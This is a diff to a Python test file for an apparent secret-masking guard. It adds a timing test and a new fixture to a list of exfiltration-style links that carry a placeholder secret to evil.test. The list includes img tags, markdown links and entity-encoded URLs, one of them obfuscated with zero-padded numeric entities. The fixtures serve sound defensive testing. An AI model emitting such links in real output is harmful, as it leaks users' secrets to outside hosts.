@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
 from gatehouse.core.keys import DerivedKey
 from gatehouse.guards.findings import Finding
@@ -37,6 +39,7 @@ STAYS = [
     f"https:\\/\\/evil.test/{P}",
     f"https&#58;&#47;&#47;evil.test/{P}",
     f"https&colon;//evil.test/{P}",
+    "".join(f"&#{ord(each):010};" for each in "https://") + f"evil.test/{P}",
     f'<img src="//evil.test/?q={P}">',
     f'<img src="https://evil.test/?a b&q={P}">',
     f"[x](<https://evil.test/a b?q={P}>)",
@@ -138,3 +141,15 @@ def test_a_long_piece_is_read_with_what_came_before_it() -> None:
 def test_what_is_not_for_people_has_its_value_in_every_link() -> None:
     unmasker = MASK.unmasker(inside_json=False)
     assert unmasker.push(f"https://evil.test/{P} ") == f"https://evil.test/{MAIL} "
+
+
+def test_looking_for_links_takes_few_times_the_work_of_putting_values_back() -> None:
+    """Twice as much; it took 150 times as much when it looked back from each value."""
+    text = f"to {P} " * 2_000
+
+    def took(prose: bool) -> float:
+        begun = time.thread_time()
+        MASK.unmask(text, prose=prose)
+        return time.thread_time() - begun
+
+    assert min(took(True) for _ in range(3)) < 20 * min(took(False) for _ in range(3))
